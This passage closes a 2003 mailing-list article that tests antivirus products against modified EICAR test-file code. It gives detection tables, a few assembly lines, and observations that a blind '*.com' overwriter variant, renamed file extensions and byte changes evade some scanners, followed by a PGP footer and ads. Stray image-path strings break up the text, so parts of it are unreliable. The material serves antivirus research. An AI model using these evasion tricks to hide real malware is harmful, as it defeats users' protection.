    a file is very common... I could replythat COM files are rarely used
    to store data but it's better to give another test!

    This time, let's replace "goat.com" by "*.com" at step 19 in Figure 15
    source code:

     AV Message

     AAV Found unknown virus .EXE.COM.
     BAV Is infected with Trivial.136.Gen.
     CAV N/D.
     FAV New or modified variant of Trivial.
     KAV Type_Trivial.
     NAV Bloodhound.DirActCOM.
     PAV N/D.
     RAV Trivial-based.136.
     VAV Univ.ow/e.

    Figure 17. Blind overwriter test.

    Phew! This time heuristics do their duty: if code appears to be really
    harmful, they shout. Note that NAV uses a very strange naming. Once connectedto their "security response" page, I only get a "No additional information."...
    not very explicit!

    Our file was named eicar6_a.com. Just let's rename it eicar6_b.abc. You
    know what? NAV and McAfee see nothing now! Detection based on file extension?
    AVs are amazingly fascinating. Definitely.

    A last one? Still at step 19, we now write ").com" instead of "*.com".
    At step 23, we insert:

     23 mov bx,dx
     24 inc byte ptr [bx]

    It's simply a nod in the direction of ESATF authors: its our turn now
    to "play" in memory! Here are the results:

     AV Message

     AAV Found unknown virus .EXE.COM.
     BAV N/D.
     CAV N/D.
     FAV New or modified variant of Trivial.
     KAV Type_Trivial.
     NAV Bloodhound.DirActCOM.
     PAV N/D.
     RAV Trivial-based.140.
     VAV Univ.ow/e.Figure 18. Specific overwriter test.

    Bitdefender gives up (but it was predictable in the light of some previous
    tests) and RAV shows an impressive collection of Trivial variants...

    It's time to wrap up!

    Well, we saw a lot of stuff but I'll be concise!

    - - Detection of known viruses variants using only signatures has its limits.
    - - Obviously, there are as many algorithms as there are AVs. But no one
    can claim the absolute truth.
    - - Emulation isn't always used or inneficient.
    - - Even with known viruses, AVs aren't absolutely reliable; just modify
    a few bytes and they are blind.
    - - In case of true harmful code, heuristics are aware. But there are some
    - - Signatures aren't always optimal.
    - - AVs have weird behaviors: often it's all or nothing, a good identification
    or... the void. Above all, why not a common naming for viruses?
    - - Viruses research is a hard topic, whether it is for known or unknown
    - - Is RAV a good choice for Microsoft (don't kick my head!)?- - The OS used for this article was Windows XP Home Edition with full
    privileges :-).
    - - Believe me dear friends, it's really hard to use several AVs at the
    same time (for sure, next time, I'll only use online versions)! Moreover,
     a lot of work must be done to simplify their configuration: I spent
    too much time scratching my head to simply understand some settings!
    What about novices in computer security?"The Anti-Virus test file", at www.eicar.org.
    The original explanations about ESATF.

    "An Examination of the EICAR Standard AV Test Program", by The Starman.
    Thus, I'm not the only one who dared to dig into ESATF?


    Deep thanks to Tweakie, alias "you should add this test" and Frédéric
    Musical inspiration: Cannibal Corpse.

    Enjoy, cya!v. 1.0 - 06/27/2003 AMcD- -
    Note: This signature can be verified at https://www.hushtools.com/verify
    Version: Hush 2.3

    -----END PGP SIGNATURE-----

    Concerned about your privacy? Follow this link to get
    FREE encrypted email: https://www.hushmail.com/?l=2

    Free, ultra-private instant messaging with Hush Messenger

    Big $$$ to be made with the HushMail Affiliate Program:

    Are You"Certifiable"? Summer's Hottest Certification Just Got HOTTER!

    With a growth rate exceeding 110%, the TICSA security practitioner
    certification is one of the hottest IT credentials available. And now, for
    a limited time,you can save 33% off of the TICSA certification exam! To
    learn more about the TICSA certification, and to register as a TICSA
    candidate online, just go to



  • Next message: Boczek, Malcolm: "Re: SP4 Problems"

    Relevant Pages

    • Lets have fun with EICAR test file
      ... EICAR stands for "European Institute for Computer Antivirus Research". ... ESATF ASCII form. ... BAV N/D. ...
    • Re: Lets have fun with EICAR test file
      ... ESATF ASCIIform. ... > they ought to be lessstressful; ESATF isn't a virus and AVs shouldn't ... > BAV N/D. ... It is perfectly possible that some anti-virus products are ...